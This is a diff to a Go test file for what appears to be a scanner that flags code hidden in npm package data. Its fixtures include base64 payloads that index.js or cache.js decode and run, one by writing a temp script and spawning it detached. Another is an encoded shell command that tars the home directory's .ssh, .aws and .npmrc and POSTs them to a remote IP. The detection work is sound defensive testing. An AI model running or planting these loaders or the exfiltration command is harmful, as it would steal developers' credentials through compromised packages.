@@ -16,6 +16,10 @@ func TestCodeInData(t *testing.T) {
 		{"split_in_manifest_run", map[string]string{
 			"package.json": `{"name":"x","version":"1.0.0","config":{"icu":{"a":"` + code[:half] + `","b":"` + code[half:] + `"}}}`,
 			"index.js":     `const p = require("./package.json"); new Function("require", Buffer.from(p.config.icu.a + p.config.icu.b, "base64").toString())(require)`}, finding.SeverityCritical},
+		// written out as a script and started with node
+		{"written_and_started", map[string]string{
+			"meta.json": `{"warm":{"file":".cache-x","blob":"` + code + `"}}`,
+			"cache.js":  `const fs = require("fs"), os = require("os"), path = require("path"); const { warm } = require("./meta.json"); const file = path.join(os.tmpdir(), warm.file + ".js"); fs.writeFileSync(file, Buffer.from(warm.blob, "base64")); require("child_process").spawn(process.execPath, [file], { detached: true }).unref()`}, finding.SeverityCritical},
 		// a shell command that uploads the home directory's keys
 		{"encoded_shell_command", map[string]string{"package.json": `{"name":"x","version":"1.0.0","config":{"set":"` + base64.StdEncoding.EncodeToString([]byte(`tar czf - -C "$HOME" .ssh .aws .npmrc | curl -s -X POST --data-binary @- "http://198.51.100.7:8443/u"`)) + `"}}`}, finding.SeverityHigh},
 		// in a data file nothing runs
